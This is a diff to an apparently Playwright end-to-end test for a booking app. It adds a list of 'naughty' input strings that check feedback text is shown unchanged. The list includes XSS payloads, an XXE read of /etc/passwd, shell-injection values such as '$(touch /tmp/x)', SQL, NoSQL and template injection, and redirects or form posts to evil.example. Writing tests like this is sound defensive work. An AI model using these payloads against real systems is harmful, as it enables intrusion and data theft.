@@ -9,6 +9,7 @@ import { book, call, open, settled, type Booking } from '../support/pages';
 
 const LIST = join(ROOT, '../shared/fixtures/security/blns/blns.json');
 
+/** Ours, always tried. The big list of others is tried as well where it lies beside the checkout. */
 const OURS = [
   '<img src=x onerror=alert(1)>',
   '<script>alert(1)</script>',
@@ -26,9 +27,23 @@ const OURS = [
   '田中さんにあげて下さい',
 ];
 
+const MORE = [
+  // Words that mean something somewhere.
+  'undefined', 'null', 'NULL', '(null)', 'nil', 'NaN', 'Infinity', 'true', 'false', 'None', '-', '\\', '\\0', 'constructor', '__proto__', 'hasOwnProperty', 'toString', 'CON', 'LPT1', 'COM0', 'NUL',
+  // Numbers that are none, or are large, or are spreadsheets' dates and formulas.
+  '0', '1.00', '-1', '1e100', '0x1F', '1/0', '--1', '0.0.0.0', '9223372036854775808', '１２３', '١٢٣', '½ ⅓ ²', '=1+1', '=HYPERLINK("https://evil.example","x")', '@SUM(1)', '+1', '2026-02-30', '25:61',
+  // Markup and scripts, in all the ways to write them.
+  '<b>fett</b>', '</textarea><script>alert(1)</script>', '</title><svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<iframe src="javascript:alert(1)"></iframe>', '<math><mi xlink:href="data:x,alert(1)">', '<img src="x" `onerror=alert(1)>', '<ScRiPt>alert(1)</sCrIpT>', '<<script>alert(1)//<</script>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<style>*{display:none}</style>', '<base href="//evil.example">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<form action=//evil.example><input name=code>', '" onfocus=alert(1) autofocus x="', "' onmouseover=alert(1) x='", 'data:text/html,<script>alert(1)</script>', '\\x3cscript\\x3e', '\\u003cscript\\u003e', '&#60;script&#62;', '%00', ']]>', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  // Templates and queries.
+  '{{7*7}}', '{% debug %}', '#{7*7}', '<%= 7*7 %>', '{{ amount }}', '%s%s%s%n', '%d', '$(touch /tmp/x)', '`id`', '; ls', '| cat', '$HOME', '%PATH%', "1' OR '1'='1", '" OR ""="', '{"$gt":""}', '*)(uid=*', 'msg_01JZ4T0Q8M6W3V9K2B7D5F1H0C', 'bkg_#PROVIDERS', '~#COMMUNITIES',
+  // Letters that are drawn in other ways than they are counted.
+  'ﬁ ﬂ ß ı İ ſ', 'Ａｂｃ', 'e\u0301 é', '\u200btest\u200b', '\u2066left\u2069', '\u061cمرحبا', 'שָׁלוֹם', 'हिन्दी', 'ไทย', 'ꦗꦮ', '한국어 조선말', '繁體 简体 𠮷野家 𪚥', '々〆〤 ㍿ ㊙', '👨🏿‍🚀 🏳️‍🌈 🧑‍🤝‍🧑 1️⃣', '🇨🇳🇨', '\ufeff开头', 'a\u00a0b\u3000c', '…—·“”‘’《》', '\u0300'.repeat(40) + 'o', '囍'.repeat(60), 'x'.repeat(499),
+];
+
 /** No control characters: those are refused, and that is tested elsewhere. */
 const typable = (text: string) => text.trim() !== '' && ![...text].some((c) => /\p{Cc}/u.test(c) && !/[\n\r\t]/.test(c));
-const STRINGS = [...OURS, ...(existsSync(LIST) ? (JSON.parse(readFileSync(LIST, 'utf8')) as string[]) : [])].filter(typable);
+const STRINGS = [...OURS, ...MORE].filter(typable);
+const THEIRS = () => (JSON.parse(readFileSync(LIST, 'utf8')) as string[]).filter(typable);
 
 /** As many as fit, separated by line breaks. */
 function bundles(strings: string[], most: number): string[] {
@@ -70,13 +85,8 @@ test('as a booking note: typed, shown to both sides, and at the desk', async ({ 
   }
 });
 
-test('as feedback: the whole list, read at the desk', async ({ as }) => {
-  const [page, desk] = [await as('naughty'), await as('looker')];
-  await open(page, '/feedback');
-  await page.getByTestId('text').fill(OURS.join('\n'));
-  await page.getByTestId('feedback-send').click();
-  await expect(page.getByTestId('toast')).toBeVisible();
-  const texts = bundles(STRINGS, 2000);
+/** Sends texts as feedback, reads them at the desk, and answers with those that are not shown as they were sent. */
+async function lost(page: Page, desk: Page, texts: string[]): Promise<string[]> {
   for (const text of texts) {
     const sent = await call(page, 'POST', '/v1/feedback', { id: id('fbk'), text, page: OURS[0] });
     expect(sent.status, JSON.stringify(sent.body)).toBe(201);
@@ -87,8 +97,24 @@ test('as feedback: the whole list, read at the desk', async ({ as }) => {
     await settled(desk);
   }
   const shown = new Set(await desk.getByTestId('feedback').locator('.prose').evaluateAll((all) => all.map((one) => (one.textContent ?? '').replace(/\r\n?/g, '\n').trim())));
-  expect(texts.filter((text) => !shown.has(same(text)))).toEqual([]);
   await inert(desk);
+  return texts.filter((text) => !shown.has(same(text)));
+}
+
+test('as feedback: the whole list, read at the desk', async ({ as }) => {
+  const [page, desk] = [await as('naughty'), await as('looker')];
+  await open(page, '/feedback');
+  await page.getByTestId('text').fill(OURS.join('\n'));
+  await page.getByTestId('feedback-send').click();
+  await expect(page.getByTestId('toast')).toBeVisible();
+  expect(await lost(page, desk, bundles(STRINGS, 2000))).toEqual([]);
+});
+
+test('as feedback: the big list of others', async ({ as }) => {
+  test.skip(!existsSync(LIST), `the big list of naughty strings does not come with the checkout: no ${LIST}`);
+  const texts = bundles(THEIRS(), 2000);
+  expect(texts.length).toBeGreaterThan(5);
+  expect(await lost(await as('naughty'), await as('looker'), texts)).toEqual([]);
 });
 
 test('as a name: in the list, in the file, as who a booking is for', async ({ as, size }) => {
